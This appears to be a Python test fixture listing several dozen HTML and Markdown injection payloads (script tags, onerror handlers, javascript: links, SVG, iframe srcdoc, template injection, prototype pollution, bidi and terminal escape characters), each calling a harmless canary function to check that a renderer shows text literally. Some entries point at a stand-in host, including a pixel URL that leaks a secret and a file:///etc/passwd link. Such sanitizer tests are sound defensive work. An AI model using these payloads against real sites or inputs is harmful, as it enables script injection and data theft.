"""Text that wants to become more than text. Each one carries a word that must be seen as it is, so
that nothing is dropped, and calls `window.canary` if it runs."""

from __future__ import annotations

RUN = "window.canary&&canary()"

ATTACKS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script, unclosed": f"<script>{RUN}//",
    "script, split by a tag": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image": f"<img src=x onerror={RUN}>",
    "image with slashes": f"<img/src/onerror={RUN}//>",
    "image, remote": "<img src=https://elsewhere.example/pixel.png>",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg, foreign": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></math>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>' src=javascript:{RUN}></iframe>",
    "object": f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src=x>",
    "base": "<base href=https://elsewhere.example/><meta http-equiv=refresh content='0;url=//x'>",
    "style": "<style>*{display:none!important}</style>"
    "<link rel=stylesheet href=//elsewhere.example>",
    "form": "<form action=https://elsewhere.example><button autofocus>x</button></form>",
    "template": f"<template><img src=x onerror={RUN}></template><noscript><p title='</noscript>"
    f"<img src=x onerror={RUN}>'>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "leaves an attribute": f"\"'><img src=x onerror={RUN}><x y='",
    "leaves a text area": f"</textarea></title></style></pre><img src=x onerror={RUN}>",
    "leaves JSON": f'"}}]}}</script><script>{RUN}</script>',
    "link, script": f"[press here](javascript:{RUN})",
    "link, script with a break": f"[press here](java\nscript:{RUN})",
    "link, script with an entity": f"[press here](&#106;avascript&colon;{RUN})",
    "link, script in capitals": f"[press here](  JaVaScRiPt:{RUN})",
    "link, data": f"[press here](data:text/html,<script>{RUN}</script>)",
    "link, vbscript and file": "[one](vbscript:x) [two](file:///etc/passwd) [three](blob:x)",
    "link, automatic": f"<javascript:{RUN}>",
    "link, by reference": f"[press here][1]\n\n[1]: javascript:{RUN}",
    "link, title": f'[press here](https://a.example "x\'onmouseover={RUN} y=")',
    "picture, remote": "![alt](https://elsewhere.example/pixel.png?leak=secret)",
    "picture, data": f"![alt](data:image/svg+xml,<svg onload={RUN}>)",
    "picture by reference": "![alt][2]\n\n[2]: https://elsewhere.example/pixel.png",
    "HTML within Markdown": f"**bold <img src=x onerror={RUN}>**\n\n<div onclick={RUN}>x</div>",
    "fence": f'```html\n<img src=x onerror={RUN}>\n```\n```"><img src=x onerror={RUN}>\nx\n```',
    "table": f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    "template string": "${canary()} {{constructor.constructor('canary()')()}} <%= canary() %>",
    "prototype": '{"__proto__": {"canary": 1}, "constructor": {"prototype": {"polluted": 1}}}',
    "terminal": "\x1b[31mred\x1b]8;;javascript:canary()\x07press\x1b]8;;\x07 \x9b2J \x07\x08",
    "direction": "user\u202egnp.exe\u2066 isolated \u2069 \u200b\u200d\ufeff\u00ad zero",
    "line ends": "one\u2028two\u2029three\x0bfour\x0cfive\x85six",
    "wide": "W" * 4_000,
    "marks on a letter": "Z" + "\u0351\u0346\u0363" * 200,
    "deep": "> " * 100 + "x",
    "deep list": "\n".join("  " * depth + "- x" for depth in range(60)),
    "brackets": "[" * 2_000 + "x" + "](" * 500,
    "emphasis": "*_" * 500,
}


def make_attacks() -> dict[str, str]:
    """The attacks, each with the word that has to be seen: `seen-7 ... `."""
    return {name: f"{word(place)} {text}" for place, (name, text) in enumerate(ATTACKS.items())}


def word(place: int) -> str:
    return f"seen-{place:03}"


WORDS = [word(place) for place in range(len(ATTACKS))]
